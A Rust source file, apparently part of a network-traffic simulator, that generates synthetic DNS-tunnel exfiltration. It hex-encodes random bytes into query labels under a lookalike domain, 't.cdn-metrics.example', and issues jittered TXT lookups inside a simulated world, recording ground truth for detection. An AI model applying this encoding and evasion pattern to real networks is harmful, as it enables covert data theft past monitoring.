//! app carries a file out in the names that it asks for.

use std::net::Ipv4Addr;

use serde_json::json;

use crate::Plan;
use crate::clock::{self, MILLI};
use crate::hash::{hex, sha256_hex};
use crate::net::{APP, INTERFACES, RESOLVER};
use crate::packet::Phase;
use crate::rng::Rng;
use crate::scene::exchange::look_up;
use crate::wire::dns;
use crate::world::World;

const DOMAIN: &str = "t.cdn-metrics.example";
const QUERIES: usize = 600;
/// Bytes of the file in one label: sixty hexadecimal digits.
const LABEL: usize = 30;

pub(crate) fn play(world: &mut World, plan: &Plan) {
    let mut rng = Rng::named(plan.seed, "tunnel");
    let app: Ipv4Addr = INTERFACES[APP].ipv4;
    let file = rng.bytes(QUERIES * 2 * LABEL);
    let mut at = clock::at(15, 10, 33);
    for (number, part) in file.chunks(2 * LABEL).enumerate() {
        let (first, second) = part.split_at(LABEL);
        let name = format!("{number:04x}.{}.{}.{DOMAIN}", hex(first), hex(second));
        let text = format!("ack {number:04x}");
        look_up(world, Phase::Tunnel, app, at, &name, dns::TXT, &dns::Answer::Txt(&text));
        at += rng.within(1_200, 4_200) * MILLI;
    }
    let details = json!({
        "src": app, "dst": INTERFACES[RESOLVER].ipv4, "dstport": 53, "domain": DOMAIN,
        "query_type": "TXT", "queries": QUERIES,
        "payload_bytes": file.len(), "payload_sha256": sha256_hex(&file),
    });
    world.ledger.details.insert(Phase::Tunnel.name(), details);
}
